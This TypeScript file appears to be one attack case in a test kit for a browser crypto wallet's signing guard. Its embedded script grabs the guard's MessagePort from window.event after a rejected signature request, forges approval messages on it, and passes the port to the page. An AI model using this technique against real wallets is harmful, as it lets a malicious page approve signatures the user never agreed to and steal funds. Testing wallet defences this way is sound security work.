import type { Attack } from './kit/attack.ts'

export default {
  family: 'stolen-port',
  how: "Takes the guard's port from window.event when a request is rejected, then approves on it and gives it away.",
  script: `
    let port
    const take = () => { port ??= window.event?.currentTarget instanceof MessagePort ? window.event.currentTarget : undefined }
    attack.tell('asked')
    await Promise.race([
      attack.ended(ethereum.request(attack.sign).catch(take)),
      new Promise((done) => ethereum.sendAsync({ id: 1, ...attack.sign }, () => done(take()))),
    ])
    if (port) {
      const ids = new Set(['*'])
      port.addEventListener('message', ({ data }) => ids.add(data.id))
      ethereum.request(attack.sign).catch(() => {})
      await attack.sleep(200)
      for (const id of ids) {
        port.postMessage({ type: 'request.forward', id, digest: '' })
        port.dispatchEvent(new MessageEvent('message', { data: { type: 'request.forward', id, digest: '' } }))
      }
      window.postMessage('port', '*', [port])
    }
    ethereum.request(attack.sign).catch(() => {})
    await attack.sleep(300)
  `,
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
    await continueHonest()
  },
} satisfies Attack
